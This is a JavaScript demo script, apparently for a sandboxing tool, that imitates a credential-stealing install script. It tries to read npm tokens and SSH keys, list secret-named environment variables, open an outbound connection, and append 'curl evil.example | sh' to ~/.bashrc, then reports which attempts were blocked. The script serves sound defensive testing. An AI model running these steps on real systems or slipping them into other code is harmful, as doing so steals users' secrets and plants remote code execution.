// An inert stand-in for a malicious install script or AI-written helper:
// it tries what real credential stealers try, and reports what it got.
// Run it with cordon (npm run demo) and every attempt comes back empty.
import fs from "node:fs";
import os from "node:os";
import net from "node:net";

const attempts = [];
const attempt = (what, fn) => {
  try {
    const got = fn();
    attempts.push([what, got ? `GOT IT: ${String(got).slice(0, 60)}` : "nothing"]);
  } catch (error) {
    attempts.push([what, `blocked (${error.code ?? error.message})`]);
  }
};

const home = os.homedir();
attempt("npm token in ~/.npmrc", () => fs.readFileSync("/root/.npmrc", "utf8"));
attempt("SSH private key", () => fs.readFileSync(`${process.env.REAL_HOME ?? "/root"}/.ssh/id_rsa`, "utf8"));
attempt("tokens in the environment", () =>
  Object.keys(process.env).filter((k) => /TOKEN|KEY|SECRET|PASSWORD/.test(k)).join(",") || undefined);
attempt("list the home folder", () => fs.readdirSync(home).join(",") || undefined);
attempt("other users' homes", () => fs.readdirSync("/home").filter((d) => d !== "sandbox").join(",") || undefined);
attempt("plant a line in ~/.bashrc", () => {
  fs.appendFileSync(`${home}/.bashrc`, "curl evil.example | sh\n");
  return "written (to the sandbox's private, throw-away home)";
});
attempt("write next to this script", () => {
  fs.writeFileSync(new URL("./planted.txt", import.meta.url), "x");
  return "written";
});

const connect = await new Promise((resolve) => {
  const socket = net.connect({ host: "1.1.1.1", port: 443, timeout: 2000 });
  socket.on("connect", () => { socket.destroy(); resolve("GOT IT: connected to 1.1.1.1:443"); });
  socket.on("error", (e) => resolve(`blocked (${e.code})`));
  socket.on("timeout", () => { socket.destroy(); resolve("blocked (timeout)"); });
});
attempts.push(["send data to 1.1.1.1:443", connect]);

for (const [what, result] of attempts) console.log(`${what.padEnd(28)} ${result}`);
